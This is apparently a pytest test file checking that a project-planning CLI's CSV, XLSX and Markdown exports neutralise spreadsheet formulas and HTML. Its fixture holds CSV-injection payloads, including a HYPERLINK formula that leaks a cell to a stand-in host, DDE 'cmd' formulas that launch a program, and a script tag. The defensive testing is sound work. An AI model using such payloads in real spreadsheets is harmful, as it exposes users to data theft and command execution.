"""Text from data files never becomes a live formula or raw markup in what ocop writes: CSV
cells that a spreadsheet would run get a leading apostrophe (OWASP), XLSX cells hold text as
text, Markdown escapes HTML. Importing ocop's own CSV gives the text back as it was.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from ocop_cli.core.errors import EXIT_OK

TITLES = {
    "1.1": '=HYPERLINK("http://x.example/?leak="&A1,"bấm")',
    "1.2": "+1+cmd|' /C calc'!A0",
    "2": "-2+3+cmd|' /C calc'!A0",
    "3.1": "@SUM(1+1)*cmd|' /C calc'!A0",
    "4": "#N/A",
    "6": "<script>alert(1)</script> & <b>co</b>",
    "7": "=1+2",
}
RUNS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formulas(ws: Path) -> Path:
    plan = ws / "plan_2019.yaml"
    text = plan.read_text(encoding="utf-8")
    for task, title in TITLES.items():
        text, n = re.subn(rf'(  - id: "{re.escape(task)}"\n    title: ).*\n',
                          lambda m, t=title: m.group(1) + json.dumps(t) + "\n", text)
        assert n == 1, task
    text, n = re.subn(r"(?m)^title: .*$", 'title: "=1+1 Kế hoạch"', text, count=1)
    assert n == 1
    plan.write_text(text, encoding="utf-8")
    return ws


def assert_guarded(rows: list[list[str]], titles: bool = True) -> None:
    cells = [c for row in rows for c in row]
    for cell in cells:
        bare = cell.lstrip(" ")
        assert not bare.startswith(RUNS) or re.fullmatch(r"[-+](\d+(\.\d+)?)?", bare), cell
    for title in list(TITLES.values())[:4] if titles else ():
        assert any(c.startswith("'") and c[1:].strip() == title for c in cells), title


def test_csv_of_tasks_report_and_plan_export_guards_formulas(formulas: Path, ocop: Any
                                                             ) -> None:
    for args in (("tasks", "--format", "csv"), ("export", "plan"),
                 ("report", "--format", "csv", "--as-of", "2019-12-31")):
        done = ocop(*args)
        assert done.exit_code == EXIT_OK, (args, done.stderr)
        rows = list(csv.reader(io.StringIO(done.stdout)))
        assert_guarded(rows, titles=args[0] != "report")
        if args[0] == "report":
            assert any("cmd|" in c for row in rows for c in row)  # the titles are there


def test_the_exported_csv_imports_back_as_written(formulas: Path, ocop: Any, tmp_path: Path
                                                  ) -> None:
    from ocop_cli.imports.sheets import read_sheet

    path = tmp_path / "plan.csv"
    assert ocop("export", "plan", "--output", str(path)).exit_code == EXIT_OK
    titles = {row[1] for _n, row in read_sheet(path).rows}
    assert set(list(TITLES.values())[:4]) <= titles


def test_markdown_escapes_html(formulas: Path, ocop: Any) -> None:
    for args in (("tasks", "--format", "md"),
                 ("report", "--format", "md", "--as-of", "2019-12-31")):
        done = ocop(*args)
        assert done.exit_code == EXIT_OK, done.stderr
        assert "<script>" not in done.stdout and "<b>" not in done.stdout
        assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;co&lt;/b&gt;" in done.stdout


@pytest.mark.parametrize("args", [("report", "--format", "xlsx"), ("export", "plan")])
def test_every_xlsx_cell_is_text_never_a_formula(formulas: Path, ocop: Any, tmp_path: Path,
                                                 args: tuple[str, ...]) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "out.xlsx"
    done = ocop(*args, "--output", str(path))
    assert done.exit_code == EXIT_OK, done.stderr
    book = load_workbook(path)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate,
                                                          cell.value)
                seen.add(cell.value)
    assert {TITLES["7"], TITLES["4"]} <= seen
